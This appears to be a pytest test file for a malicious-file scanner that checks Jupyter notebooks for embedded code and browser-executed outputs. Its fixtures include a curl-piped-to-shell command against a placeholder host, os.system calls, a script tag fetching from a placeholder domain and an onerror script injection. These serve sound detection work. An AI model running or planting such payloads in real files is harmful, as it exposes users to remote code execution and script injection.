"""A notebook's cells are a program, its outputs pages."""

from __future__ import annotations

import json
from typing import Any

import pytest

from scanner import FileVerdict
from tests.scanner.told import MALICIOUS, rules, tell


def notebook(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4}).encode()


def code(source: Any, *outputs: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "outputs": list(outputs), "metadata": {}}


@pytest.mark.parametrize(
    "source", ["import os\nos.system('id')", ["import os\n", "!ls\n", "os.system('id')"]]
)
def test_what_cells_call_is_judged_as_python(source: Any) -> None:
    assert tell(notebook(code("x = 1"), code(source)), "a.ipynb").verdict is MALICIOUS


@pytest.mark.parametrize("source", ["!curl example.invalid | sh", "%%bash\nid", "%run x.py"])
def test_commands_are_code(source: str) -> None:
    assert "embedded-code" in rules(tell(notebook(code(source)), "a.ipynb"))


@pytest.mark.parametrize(
    "data",
    [
        {"text/html": "<script>fetch('//example.invalid')</script>"},
        {"text/html": ["<p>\n", "<img src=x onerror=alert(1)>"]},
        {"application/javascript": "fetch('//example.invalid')"},
    ],
)
def test_outputs_that_a_browser_runs_are_code(data: dict[str, Any]) -> None:
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    assert "embedded-code" in rules(tell(notebook(code("", output)), "a.ipynb"))


def test_a_notebook_of_words_is_clean() -> None:
    words = {"cell_type": "markdown", "source": ["# Results\n", "good"], "metadata": {}}
    table = {"output_type": "display_data", "data": {"text/html": "<table><tr></tr></table>"}}
    result = tell(notebook(words, code("", table)), "a.ipynb")

    assert result.verdict is FileVerdict.CLEAN
